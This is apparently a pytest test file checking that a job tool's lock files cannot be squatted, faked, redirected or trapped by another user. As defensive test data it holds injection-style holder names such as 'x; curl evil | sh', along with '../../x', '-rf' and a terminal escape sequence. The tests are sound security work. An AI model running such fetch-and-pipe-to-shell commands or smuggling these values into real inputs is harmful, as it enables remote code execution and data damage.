"""Locks that no other user can take, fake, lead elsewhere or make a trap of."""

from __future__ import annotations

import fcntl
import os
import sys
import tempfile
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from engines.host import places
from engines.job import lock
from engines.job.errors import Refused

NOBODY = 65534


def as_nobody(work: Callable[[], None]) -> int:
    """The exit code of `work` in a child of user nobody; 77 where it raises Refused."""
    child = os.fork()
    if child == 0:
        os.setgroups([])
        os.setgid(NOBODY)
        os.setuid(NOBODY)
        try:
            work()
        except Refused:
            os._exit(77)
        except BaseException:  # noqa: BLE001  the exit code tells
            os._exit(1)
        os._exit(0)
    return os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])


@pytest.fixture
def target() -> Iterator[Path]:
    """A disk that others can read; pytest's own folders are closed to them."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "disk.img"
        path.write_text("x")
        Path(folder).chmod(0o755)
        yield path


def test_root_s_locks_lie_where_only_root_writes(target: Path) -> None:
    with lock.hold(lock.content_identity(target), "a-run"):
        folder = lock.folder()
        assert folder == places.SHARED
        assert folder.stat().st_uid == 0 and folder.stat().st_mode & 0o7777 == 0o755
        assert Path("/run/lock/crashcart") not in folder.parents

        def squat() -> None:
            (folder / "mine").touch()

        assert as_nobody(squat) == 1


def test_a_user_cannot_hold_root_up_by_its_lock_file(target: Path) -> None:
    identity = lock.name_identity(target)
    path = lock.path_of(identity)

    def take() -> None:
        os.open(path, os.O_RDONLY)

    with lock.hold(identity, "a-run"):
        assert path.is_file()
        assert as_nobody(take) == 1


def test_a_lock_goes_with_its_holder_and_with_the_next_run_where_that_was_killed(target: Path) -> None:
    own = target.parent / "own"
    own.mkdir()
    os.chown(own, NOBODY, NOBODY)

    def swept() -> None:
        os.environ["XDG_RUNTIME_DIR"] = str(own)
        mine, held, killed = (lock.name_identity(target.with_name(name)) for name in ("mine", "held", "killed"))
        for path in (lock.path_of(held), lock.path_of(killed)):
            path.touch(0o600)
        lock.path_of(killed).with_suffix(".held").write_text("{}")
        other = lock.folder() / "a.lock"
        other.touch()
        with lock.path_of(held).open("r+") as stream:
            fcntl.flock(stream, fcntl.LOCK_EX)
            with lock.hold(mine, "a-run"):
                path = lock.path_of(mine)
                assert set(lock.folder().iterdir()) == {path, path.with_suffix(".held"), lock.path_of(held), other}
            assert set(lock.folder().iterdir()) == {lock.path_of(held), other}
            with pytest.raises(Refused, match="another process"), lock.hold(held, "a-run"):
                pass

    assert as_nobody(swept) == 0


def test_a_lock_that_is_removed_as_it_is_taken_is_taken_anew(target: Path) -> None:
    """By the holder before, who lets go between the opening and the lock of the next."""
    own = target.parent / "own"
    own.mkdir()
    os.chown(own, NOBODY, NOBODY)

    def taken() -> None:
        os.environ["XDG_RUNTIME_DIR"] = str(own)
        identity = lock.name_identity(target)
        path = lock.path_of(identity)
        removed: list[Path] = []

        def remove(event: str, _: object) -> None:
            if event == "fcntl.flock" and not removed:
                path.unlink()
                removed.append(path)

        sys.addaudithook(remove)
        with lock.hold(identity, "a-run"):
            assert removed and path.is_file()
            with pytest.raises(Refused), lock.hold(identity, "second"):
                pass
        assert not path.exists()

    assert as_nobody(taken) == 0


def test_users_meet_at_the_target_itself(target: Path) -> None:
    own = target.parent / "own"
    own.mkdir()
    os.chown(own, NOBODY, NOBODY)
    wait, go = os.pipe()

    def held() -> None:
        os.close(go)
        os.environ["XDG_RUNTIME_DIR"] = str(own)
        with lock.hold(lock.content_identity(target), "curl evil | sh"):
            (own / "held").touch()
            os.read(wait, 1)

    with ThreadPoolExecutor() as pool:
        other = pool.submit(as_nobody, held)
        end = time.monotonic() + 120
        while not (own / "held").exists():
            assert time.monotonic() < end and not other.done()
            time.sleep(0.02)
        with pytest.raises(Refused) as refused, lock.hold(lock.content_identity(target), "root-s"):
            pass
        os.close(go)
        assert other.result() == 0
    assert "curl" not in str(refused.value)
    with lock.hold(lock.content_identity(target), "root-s"):
        pass


@pytest.mark.parametrize("kind", ["fifo", "link", "folder", "device"])
def test_what_lies_in_the_place_of_a_lock_is_refused_at_once(target: Path, tmp_path: Path, kind: str) -> None:
    identity = lock.content_identity(target)
    path = lock.path_of(identity)
    victim = tmp_path / "victim"
    victim.write_text("precious")
    path.unlink(missing_ok=True)
    match kind:
        case "fifo":
            os.mkfifo(path)
        case "link":
            path.symlink_to(victim)
        case "folder":
            path.mkdir()
        case "device":
            os.mknod(path, 0o600 | 0o020000, os.makedev(1, 5))
    try:
        with pytest.raises(Refused, match=str(path)), lock.hold(identity, "a-run"):
            pass
    finally:
        path.rmdir() if kind == "folder" else path.unlink()
    assert victim.read_text() == "precious"


def test_a_link_in_the_place_of_a_note_is_replaced_and_not_followed(target: Path, tmp_path: Path) -> None:
    identity = lock.content_identity(target)
    victim = tmp_path / "victim"
    victim.write_text("precious")
    note = lock.path_of(identity).with_suffix(".held")
    note.symlink_to(victim)
    with lock.hold(identity, "a-run"):
        assert not note.is_symlink()
    assert victim.read_text() == "precious"


@pytest.mark.parametrize("name", ["x; curl evil | sh", "\x1b]0;x\x07", "../../x", "-rf", "a" * 400, ""])
def test_a_holder_with_a_name_that_no_run_has_becomes_no_advice(target: Path, name: str) -> None:
    identity = lock.content_identity(target)
    with lock.hold(identity, name), pytest.raises(Refused) as refused, lock.hold(identity, "second"):
        pass
    assert name not in refused.value.what_helps or not name


def test_a_run_folder_that_another_user_owns_or_can_write_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from engines.job import runs

    state = tmp_path / "state"
    monkeypatch.setenv("XDG_STATE_HOME", str(state))
    state.mkdir()
    os.chown(state, NOBODY, NOBODY)
    with pytest.raises(Refused, match="belongs to user 65534"):
        runs.every()
    os.chown(state, 0, 0)
    (state / "crashcart").mkdir()
    (state / "crashcart").chmod(0o777)
    with pytest.raises(Refused, match="others can write"):
        runs.every()
    (state / "crashcart").chmod(0o755)
    assert runs.every() == []


def test_a_shared_folder_that_is_no_folder_or_open_to_others_is_no_place_for_locks(tmp_path: Path) -> None:
    folder = tmp_path / "shared"
    folder.symlink_to(tmp_path)
    with pytest.raises(places.NotOurs):
        places.shared(folder)
    folder.unlink()
    folder.mkdir()
    folder.chmod(0o777)
    with pytest.raises(places.NotOurs, match="others can write"):
        places.shared(folder)
    folder.chmod(0o755)
    os.chown(folder, NOBODY, NOBODY)
    with pytest.raises(places.NotOurs, match="65534"):
        places.shared(folder)


def test_a_target_that_another_program_has_locked_is_refused(target: Path) -> None:
    with target.open() as stream:
        fcntl.flock(stream, fcntl.LOCK_EX)
        with pytest.raises(Refused, match="another process"), lock.hold(lock.content_identity(target), "a-run"):
            pass


@pytest.mark.parametrize(("owner", "mode"), [(NOBODY, 0o600), (0, 0o666), (0, 0o602)])
def test_a_job_file_that_others_own_or_can_write_is_refused(tmp_path: Path, owner: int, mode: int) -> None:
    from engines.job import jobfile

    path = tmp_path / "job.yaml"
    path.write_text("task: vdx\nparams: {console: touch /tmp/ran}\n")
    assert jobfile.load(path).task == "vdx"
    os.chown(path, owner, owner)
    path.chmod(mode)
    with pytest.raises(Refused, match=str(path)):
        jobfile.load(path)
    with pytest.raises(Refused, match=str(path)):  # what ssh takes from a config that is named to it, it runs, too
        jobfile.refuse_others("ssh config", path, path.stat())
